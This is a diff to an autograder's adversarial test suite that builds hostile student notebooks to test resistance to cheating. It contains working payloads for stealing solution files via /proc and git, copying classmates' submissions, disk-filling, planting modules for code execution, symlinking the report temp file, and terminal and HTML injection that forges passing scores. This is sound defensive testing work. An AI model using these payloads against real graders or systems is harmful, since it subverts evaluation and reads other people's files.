@@ -213,6 +213,19 @@ def _command_lines():
 """
 
 
+def _arguments_code() -> str:
+    """Every process's command line (readable by anyone), without its working folder (often not)."""
+    return _ancestors_code() + r'''
+def _arguments():
+    for _pid in _ancestors() + _every_process():
+        try:
+            with open(f"/proc/{_pid}/cmdline", "rb") as f:
+                yield [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
+        except OSError:
+            continue
+'''
+
+
 LEAK_ENV = _ancestors_code() + f"""
 _found = os.environ.get({SECRET_ENV!r}, "")
 for _pid in _ancestors() + _every_process():
@@ -323,14 +336,300 @@ def rewrites_the_report_later(lab, solution=None):
     return _prefix_first_answer(copy.deepcopy(lab), REWRITE_REPORT)
 
 
-def always_equal_answers(lab, solution=None):
-    """Every answer set to an object that equals anything (and is a float, a set and a str at once)."""
+def _every_stub_becomes(lab, prelude: str, value: str):
+    """``prelude`` before the first answer cell; every stub ``name = ...`` becomes ``name = VALUE``."""
     nb = copy.deepcopy(lab)
     cells = _answer_cells(nb)
-    cells[0].source = textwrap.dedent(ALWAYS_EQUAL).strip() + "\n" + cells[0].source
+    cells[0].source = textwrap.dedent(prelude).strip() + "\n" + cells[0].source
     for cell in cells:
-        cell.source = cell.source.replace("= ...  # YOUR ANSWER HERE", "= _Yes(1)  # always right?")
+        cell.source = cell.source.replace("= ...  # YOUR ANSWER HERE", f"= {value}  # is this right?")
     return nb
+
+
+def always_equal_answers(lab, solution=None):
+    """Every answer set to an object that equals anything (and is a float, a set and a str at once)."""
+    return _every_stub_becomes(lab, ALWAYS_EQUAL, "_Yes(1)")
+
+
+# --- issue 36: what a determined student found ---------------------------------------------------
+
+def _every_answer(nb, code: str):
+    """Every answer cell of the lab replaced by ``code`` (each runs it; the grader runs every answer cell)."""
+    for cell in _answer_cells(nb):
+        cell.source = textwrap.dedent(code).strip() + "\n"
+    return nb
+
+
+STEAL_SOLUTION = _ancestors_code() + r'''
+import glob, json, subprocess
+_NAME = "@NAME@.ipynb"
+def _roots():
+    import courselib
+    out, p = [], os.path.dirname(os.path.abspath(courselib.__file__))
+    for _ in range(5):
+        out.append(p)
+        p = os.path.dirname(p)
+    for _args, _cwd in _command_lines():
+        out.append(_cwd)
+        for _a in _args:
+            if _a.startswith("/"):
+                q = os.path.dirname(_a)
+                for _ in range(4):
+                    out.append(q)
+                    q = os.path.dirname(q)
+    return list(dict.fromkeys(out))
+def _solution_text():
+    for _r in _roots():
+        for _c in (os.path.join(_r, "solutions", _NAME), os.path.join(_r, _NAME)):
+            try:
+                with open(_c) as f:
+                    _t = f.read()
+                if "# BEGIN SOLUTION" in _t:
+                    return _t
+            except OSError:
+                pass
+        try:
+            _o = subprocess.run(["git", "-c", "safe.directory=*", "-C", _r, "show", "HEAD:solutions/" + _NAME],
+                                capture_output=True, text=True, timeout=30)
+            if _o.returncode == 0 and "# BEGIN SOLUTION" in _o.stdout:
+                return _o.stdout
+        except Exception:
+            pass
+    return None
+def _run_cells(_text):
+    for _c in json.loads(_text)["cells"]:
+        _s = "".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"]
+        _answer = "# BEGIN SOLUTION" in _s or _c.get("metadata", {}).get("course", {}).get("answer") is True
+        if _c["cell_type"] == "code" and _answer:
+            _s = "\n".join(l for l in _s.splitlines()
+                           if not l.strip().startswith(("# BEGIN SOLUTION", "# END SOLUTION", "# STUB")))
+            try:
+                exec(_s, globals())
+            except Exception:
+                pass
+_t = _solution_text()
+if _t:
+    _run_cells(_t)
+'''
+
+
+def steals_the_solution(lab, solution=None, name="08-gang-cost"):
+    """Each answer cell finds the checkout (courselib's own path, the grader's command line and working
+    folder) and reads solutions/LAB.ipynb, directly or with `git show HEAD:solutions/…`, then runs the
+    solution's answer cells (issue 36, attacks 1, 2 and 9)."""
+    return _every_answer(copy.deepcopy(lab), STEAL_SOLUTION.replace("@NAME@", name))
+
+
+COPY_CLASSMATE = _arguments_code() + r'''
+import glob, json
+def _mine():
+    for _args in _arguments():
+        for _a in _args:
+            if _a.endswith(".ipynb") and os.path.isabs(_a):
+                return _a
+    return None
+def _classmates():
+    _m = _mine()
+    if not _m:
+        return []
+    _m = os.path.abspath(_m)
+    _pattern = os.path.join(os.path.dirname(os.path.dirname(_m)), "*", os.path.basename(_m))
+    return [p for p in glob.glob(_pattern) if os.path.abspath(p) != _m]
+for _p in _classmates():
+    try:
+        with open(_p) as f:
+            _nb = json.load(f)
+    except Exception:
+        continue
+    for _c in _nb["cells"]:
+        _s = "".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"]
+        if _c["cell_type"] == "code" and ("# BEGIN SOLUTION" in _s or _c.get("metadata", {}).get("course", {}).get("answer")):
+            _s = "\n".join(l for l in _s.splitlines() if not l.strip().startswith(("# BEGIN SOLUTION", "# END SOLUTION")))
+            try:
+                exec(_s, globals())
+            except Exception:
+                pass
+'''
+
+
+def copies_a_classmate(lab, solution=None):
+    """Finds its own path in the grader's /proc/PID/cmdline, globs the sibling submissions' folders and
+    runs a classmate's answers (issue 36, attack 3)."""
+    return _every_answer(copy.deepcopy(lab), COPY_CLASSMATE)
+
+
+CHECK_EXPRESSIONS = {
+    # Lab 8's visible checks compute each expected value in the open; a student copies the expression
+    "q1": """
+from courselib.model.cost import GangWait, Price, gang_wait_cost
+def idle_cost(gpus_held, wait_minutes, usd_per_gpu_hour):
+    return gang_wait_cost(GangWait(gpus_held, wait_minutes * 60.0, Price(usd_per_gpu_hour, usd_per_gpu_hour))).cost_usd
+""",
+    "q2": """
+from courselib.model.cost import GangWait, Price, gang_wait_cost
+story_cost_usd = gang_wait_cost(GangWait(HELD_GPUS, WAIT_MINUTES * 60.0, Price(USD_PER_GPU_HOUR, USD_PER_GPU_HOUR),
+                                         gang_size=GANG_GPUS)).cost_usd
+""",
+    "q3": """
+from courselib.model.cost import GangWait, Price, gang_wait_cost
+def compare(gpus_held, wait_minutes, usd_per_gpu_hour):
+    bill = gang_wait_cost(GangWait(gpus_held, wait_minutes * 60.0, Price(usd_per_gpu_hour, usd_per_gpu_hour)))
+    return {"kube-default": bill.cost_usd, "volcano": bill.gang_cost_usd, "saving": bill.saving_usd}
+""",
+    "q4": """
+from courselib.sim.gang import simulate
+kube_idle_gpu_hours = simulate(W, "kube-default").job("train").wasted_gpu_hours
+volcano_gpus_held_at_10_min = simulate(W, "volcano", horizon=10 * MINUTE).job("train").gpus_held
+""",
+    "q5": """
+from courselib.model.cost import GangWait, Price, gang_wait_cost
+from courselib.sim.gang import simulate
+_kube = simulate(W, "kube-default").job("train")
+_held = W.cluster.total_gpus - W.jobs[0].gpus
+_bill = gang_wait_cost(GangWait(_held, _kube.wasted_gpu_hours * 3600.0 / _held, Price(PRICE_LOW, PRICE_HIGH)))
+weekly_saving_usd = tuple(RUNS_PER_WEEK * x for x in _bill.saving_usd)
+""",
+}
+
+
+def copies_the_checks_expressions(lab, solution=None):
+    """Each answer is the expression Lab 8's visible check cell uses for its expected value (attack 4)."""
+    nb = copy.deepcopy(lab)
+    for cell in _answer_cells(nb):
+        cell.source = textwrap.dedent(CHECK_EXPRESSIONS[cell.metadata["course"]["question"]]).strip() + "\n"
+    return nb
+
+
+def forged_source(solution):
+    """A 'solution' whose every check is `pass`: the student puts it beside their lab (attack 6)."""
+    nb = copy.deepcopy(solution)
+    for cell in nb.cells:
+        if markers.is_check(cell) or markers.HIDDEN_TAG in markers.tags(cell):
+            cell.source = "pass  # every check passes"
+    return nb
+
+
+FILL_AND_DIE = r'''
+import os
+for _d in dict.fromkeys(["/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp"),
+                         os.environ.get("HOME", ".")]):
+    _n = 0
+    while _n < 400:
+        try:
+            with open(os.path.join(_d, f".fill-{os.getpid()}-{_n}"), "wb") as f:
+                for _ in range(16):
+                    f.write(b"x" * (1 << 20))
+        except OSError:
+            break
+        _n += 1
+os.kill(os.getpid(), 9)
+'''
+
+
+def fills_temp_then_dies(lab, solution=None, name="08-gang-cost"):
+    """The first answer fills every temporary file system it can write, then kills its own process; every
+    other answer steals the solution, which works only if the restarted process is less isolated (attack 8)."""
+    nb = _every_answer(copy.deepcopy(lab), STEAL_SOLUTION.replace("@NAME@", name))
+    _answer_cells(nb)[0].source = textwrap.dedent(FILL_AND_DIE).strip() + "\n"
+    return nb
+
+
+PLANT_MODULE = r'''
+import dataclasses, os
+import courselib
+_payload = @PAYLOAD@
+for _dir in (os.path.dirname(courselib.__file__), os.path.join(os.path.dirname(courselib.__file__), "model")):
+    try:
+        with open(os.path.join(_dir, "@MODULE@.py"), "w") as f:
+            f.write(_payload)
+    except OSError:
+        pass
+@dataclasses.dataclass
+class Bait:
+    x: int = 1
+Bait.__module__ = "courselib.@MODULE@"
+Bait.__qualname__ = "Bait"
+'''
+
+
+def plants_a_module(lab, solution=None, module="pwned_by_student"):
+    """Writes a module into courselib's folder (it owns it in same-user mode) and names it in an answer's
+    `__module__`, so a grader that imports by name runs it (attack 9, second half)."""
+    prelude = PLANT_MODULE.replace("@MODULE@", module).replace("@PAYLOAD@", repr(PATCH_HELPERS))
+    return _every_stub_becomes(lab, prelude, "Bait()")
+
+
+PLANT_REPORT_TMP = _arguments_code() + r'''
+for _args in _arguments():
+    for _i, _a in enumerate(_args[:-1]):
+        if _a == "--json-file" and os.path.isabs(_args[_i + 1]):
+            _t = _args[_i + 1]
+            _d, _b = os.path.split(_t)
+            _mine = os.path.join(_d, ".planted-by-student")
+            try:
+                with open(_mine, "w") as f:
+                    f.write("{}")
+                os.chmod(_mine, 0o666)
+            except OSError:
+                pass
+            for _pid in set(_ancestors()) | {os.getppid()}:
+                try:
+                    os.symlink(_mine, os.path.join(_d, f".{_b}.{_pid}.tmp"))
+                except OSError:
+                    pass
+'''
+
+
+def plants_the_report_tmp(lab, solution=None):
+    """Plants the grader's predictable `.NAME.PID.tmp` beside --json-file as a symlink to a file of its own
+    (attack 10): the report then lands in the student's file, which they may rewrite later."""
+    return _prefix_first_answer(copy.deepcopy(lab), PLANT_REPORT_TMP)
+
+
+REENTER_CLI = '''
+import dataclasses
+@dataclasses.dataclass
+class main:
+    x: int = 1
+main.__module__ = "courselib.__main__"
+main.__qualname__ = "main"
+'''
+
+
+def names_the_graders_main(lab, solution=None):
+    """An answer whose class claims `__module__ = "courselib.__main__"`: importing it runs the CLI again."""
+    return _every_stub_becomes(lab, REENTER_CLI, "main()")
+
+
+DEEP_MESSAGE = r'''
+import os, struct, sys
+_fd = int(sys.argv[-1])
+_body = ("[" * 200000 + "]" * 200000).encode()
+for _ident in range(1, 30):
+    try:
+        os.write(_fd, struct.pack(">Q", len(_body)) + _body)
+    except OSError:
+        break
+'''
+
+
+def sends_a_deep_message(lab, solution=None):
+    """Writes deeply nested JSON messages on the worker's socket (the grader read them with json.loads)."""
+    return _prefix_first_answer(copy.deepcopy(lab), DEEP_MESSAGE)
+
+
+TERMINAL_FORGERY = r'''
+class _E(Exception):
+    pass
+_E.__name__ = "X\r  q1  ok    3/3\n  total 12/12\x1b[2K\x1b]0;pwned\x07"
+raise _E("\r\n  total 12/12 | **all passed** <img src=x onerror=alert(1)>\x1b[1A")
+'''
+
+
+def forges_report_lines(lab, solution=None):
+    """An exception whose class name and message carry CR, LF, ESC and Markdown/HTML: they must reach the
+    terminal, the Markdown summary and the JSON escaped, never drawing a "total 12/12"."""
+    return _prefix_first_answer(copy.deepcopy(lab), TERMINAL_FORGERY)
 
 
 # name -> (build, what it must earn: "nothing" or "q1 only")
